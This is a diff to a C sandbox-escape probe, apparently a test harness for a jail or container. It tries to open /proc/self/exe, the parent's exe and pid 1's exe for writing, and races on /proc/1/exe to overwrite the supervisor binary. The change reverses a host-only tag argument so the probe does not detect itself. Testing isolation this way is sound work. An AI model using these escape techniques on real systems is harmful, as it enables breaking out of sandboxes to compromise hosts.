@@ -3,7 +3,8 @@
  *   self-exe     open /proc/self/exe for writing (and the O_PATH reopen trick)
  *   parent-exe   the same on the parent and on pid 1 (the jail's init, maybe the supervisor)
  *   scan-pids    every pid visible in /proc: open exe for writing; report any process whose
- *                cmdline contains argv[2] (a tag only a host process carries)
+ *                cmdline contains the tag given reversed in argv[2] (reversed, so that the
+ *                attack's own command line does not carry it)
  *   exe-race     hold /proc/1/exe with O_PATH and keep reopening it for writing for a second,
  *                the pattern that wins once the supervisor binary stops running
  */
@@ -61,7 +62,17 @@ static int read_cmdline(const char *pid, char *buf, size_t len)
 int main(int argc, char **argv)
 {
 	h_variant = argc > 1 ? argv[1] : "self-exe";
-	const char *tag = argc > 2 ? argv[2] : NULL;
+	char tag_buf[256] = "";
+	const char *tag = NULL;
+	if (argc > 2) {
+		size_t n = strlen(argv[2]);
+		if (n >= sizeof tag_buf)
+			n = sizeof tag_buf - 1;
+		for (size_t i = 0; i < n; i++)
+			tag_buf[i] = argv[2][n - 1 - i];
+		tag_buf[n] = 0;
+		tag = tag_buf;
+	}
 	if (!strcmp(h_variant, "self-exe")) {
 		try_write_exe("/proc/self/exe");
 	} else if (!strcmp(h_variant, "parent-exe")) {
